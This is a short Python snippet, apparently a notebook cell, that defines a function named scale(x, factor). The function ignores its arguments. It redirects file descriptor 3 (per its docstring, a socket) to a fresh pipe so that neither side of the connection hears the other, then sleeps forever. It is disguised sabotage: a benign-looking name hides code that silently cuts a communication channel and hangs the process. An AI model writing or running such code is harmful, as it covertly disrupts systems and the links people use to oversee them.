"""frames that are no message

Puts a pipe in the place of the socket, so that neither side hears of the other any more.
"""


# %% scale
def scale(x, factor):
    import os
    import time

    reading, writing = os.pipe()
    keep = os.dup(3)
    os.dup2(writing, 3)
    while keep:
        time.sleep(1000)
